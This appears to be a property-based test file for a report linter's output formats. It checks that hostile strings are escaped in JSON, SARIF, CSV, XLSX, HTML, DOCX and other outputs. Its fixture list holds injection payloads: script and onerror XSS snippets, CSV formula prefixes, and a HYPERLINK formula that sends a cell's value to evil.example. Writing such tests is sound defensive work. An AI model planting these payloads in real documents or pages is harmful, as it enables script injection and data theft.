"""Every output parses by its own standard with hostile text inside (issue 13).

Unit names, quoted text, row labels and file names are drawn from markup, formula prefixes,
quotes of every kind, control and format characters (U+202E), and lone surrogates, and go
through every format: each must still be what its reader expects.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from helpers import REPO, docx_bytes
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from test_properties import SETTINGS

from reportlint.model import FileResult, Finding, Location
from reportlint.output import Options, render
from reportlint.output.safe import csv_row, shown, shown_name, writable

REPORT_SCHEMA = json.loads((REPO / "schemas" / "report.schema.json").read_text(encoding="utf-8"))
SARIF_SCHEMA = json.loads((REPO / "tests" / "sarif" / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
SARIF = jsonschema.Draft4Validator(SARIF_SCHEMA)
FRAGMENTS = ["<script>alert(1)</script>", "</td>", "<img src=x onerror=alert(1)>", "&amp;", "&", "=", "+", "-", "@",
             "\t", "\r", "\n", "\r\n", '"', "'", "`", "“", "”", "「", "」", "\\", "%", "%0A", ":", ",", "::", "::error ",
             "]]>", "<!--", "\x00", "\x1b[31m", "\u202e", "\u200b", "\ufeff", "\u2028", "\ufffe", "\udce4", "\ud800",
             '=HYPERLINK("http://evil.example/?"&A1,"点击")', "某某区人民政府办公室", "[bold]", "[/]"]
hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.characters(codec=None)), max_size=8).map("".join)
ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "section", "div", "h1", "h2", "h3",
                "h4", "p", "ul", "li", "span", "a", "input", "label", "table", "colgroup", "col", "thead", "tbody", "tr",
                "th", "td"}  # the office's report (issue 11): its own markup only, never a report's


@st.composite
def results(draw: Any) -> list[FileResult]:
    """Two files: one with an error (a JUnit failure) and a note, one unreadable."""
    def text() -> str:
        return draw(hostile)

    findings = [
        Finding("A401", "total-mismatch", "error", text(),
                Location(section="三", table=3, row=text(), column=text(), line=7), text(), text(), text()),
        Finding("S104", "section-heading-wording", "info", text(), Location(section="一", paragraph=3)),
    ]
    return [FileResult(text() or "x.txt", "txt", text(), 2024, findings),
            FileResult(text() or "y.pdf", "pdf", None, None,
                       [Finding("F001", "unreadable-file", "error", text())], unreadable=True)]


def _render(data: list[FileResult], fmt: str) -> str:
    out = render(data, fmt, Options(lang="zh"))
    assert isinstance(out, str)
    out.encode("utf-8")  # writable: no lone surrogate left
    return out


@given(results())
@SETTINGS
def test_json_validates_and_keeps_text_exact(data: list[FileResult]) -> None:
    parsed = json.loads(_render(data, "json"))
    jsonschema.validate(parsed, REPORT_SCHEMA)
    assert [f["path"] for f in parsed["files"]] == [r.path for r in data]
    assert parsed["files"][0]["findings"][0]["message"] == data[0].findings[0].message


_URI = re.compile(r"[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]*")


@given(results())
@SETTINGS
def test_sarif_validates_against_the_official_schema(data: list[FileResult]) -> None:
    parsed = json.loads(_render(data, "sarif"))
    errors = [e.message for e in SARIF.iter_errors(parsed)]
    assert errors == []
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in parsed["runs"][0]["results"]]
    assert all(_URI.fullmatch(u) for u in uris), uris  # RFC 3986 characters only


@given(results())
@SETTINGS
def test_junit_is_well_formed_xml(data: list[FileResult]) -> None:
    suite = ElementTree.fromstring(_render(data, "junit").encode("utf-8"))
    assert [case.get("name") for case in suite] == [shown_name(r.path) for r in data]
    assert suite.get("failures") == "2"


def _gh_unescape(text: str) -> str:
    return text.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",").replace("%25", "%")


@given(results())
@SETTINGS
def test_github_annotations_escape_by_the_workflow_command_rules(data: list[FileResult]) -> None:
    lines = _render(data, "github").split("\n")
    assert lines[-1] == "" and len(lines) - 1 == 3  # one command a finding, nothing broke a line
    for line, (result, finding) in zip(lines, [(r, f) for r in data for f in r.findings], strict=False):
        command, message = line.split("::", 2)[1:]
        level, properties = command.split(" ", 1)
        assert level == {"error": "error", "info": "notice"}[finding.severity]
        fields = dict(p.split("=", 1) for p in properties.split(","))
        assert all(":" not in v and "," not in v for v in fields.values())
        assert _gh_unescape(fields["file"]) == writable(result.path)
        assert _gh_unescape(fields["title"]) == f"{finding.code} {finding.name}"
        assert "\r" not in message and _gh_unescape(message).startswith(shown(finding.message))


@given(results())
@SETTINGS
def test_csv_round_trips_through_csv_reader(data: list[FileResult]) -> None:
    from reportlint.output.rows import FINDING_HEADERS, finding_rows

    records = list(csv.reader(io.StringIO(_render(data, "csv").lstrip("\ufeff"), newline="")))
    expected = [csv_row(FINDING_HEADERS["zh"])] + [csv_row(row) for row in finding_rows(data, "zh")]
    assert records == [[str(v) for v in row] for row in expected]
    assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for r in records for f in r)


@given(results())
@SETTINGS
def test_xlsx_loads_with_no_formula_cell(data: list[FileResult]) -> None:
    raw = render(data, "xlsx", Options())
    assert isinstance(raw, bytes)
    book = load_workbook(io.BytesIO(raw))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    detail = list(book.worksheets[1].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in detail] == [shown_name(r.path) for r in data for _ in r.findings]
    assert detail[0][7] == (shown(data[0].findings[0].message) or None)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.cells: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "td":
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data


@given(results())
@SETTINGS
def test_html_parses_with_no_hostile_markup(data: list[FileResult]) -> None:
    page_text = _render(data, "html")
    page = _Page()
    page.feed(page_text)
    page.close()
    assert set(page.tags) <= ALLOWED_TAGS
    assert "<script" not in page_text.lower() and "<img" not in page_text.lower()
    assert shown_name(data[0].path) in page.cells  # the text is all there, as text
    assert shown(data[0].findings[0].message) in page.cells


@pytest.fixture(scope="module")
def docx_input(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("docx") / "report.docx"
    path.write_bytes(docx_bytes())
    return path


def _docx_result(path: Path, data: list[FileResult]) -> FileResult:
    return FileResult(str(path), "docx", data[0].unit, 2024, data[0].findings)


@given(results())
@SETTINGS
def test_docx_comments_open_in_python_docx(docx_input: Path, data: list[FileResult]) -> None:
    import docx

    raw = render([_docx_result(docx_input, data)], "docx", Options())
    assert isinstance(raw, bytes)
    document = docx.Document(io.BytesIO(raw))
    texts = [c.text for c in document.comments]
    assert len(texts) == 2 and shown(data[0].findings[0].message) in texts[0]


def test_docx_comments_open_in_libreoffice(docx_input: Path, tmp_path: Path, office_profile: str) -> None:
    """One hostile sample through LibreOffice: it reads the annotated file and prints it."""
    text = "".join(FRAGMENTS)
    finding = Finding("A401", "total-mismatch", "error", text, Location(section="三", table=2, row=text), text, text)
    raw = render([FileResult(str(docx_input), "docx", text, 2024, [finding])], "docx", Options())
    assert isinstance(raw, bytes)
    (tmp_path / "annotated.docx").write_bytes(raw)
    proc = subprocess.run(["soffice", office_profile, "--headless",
                           "--convert-to", "txt:Text", "--outdir", str(tmp_path), str(tmp_path / "annotated.docx")],
                          capture_output=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    assert "一、总体情况" in (tmp_path / "annotated.txt").read_text(encoding="utf-8-sig")
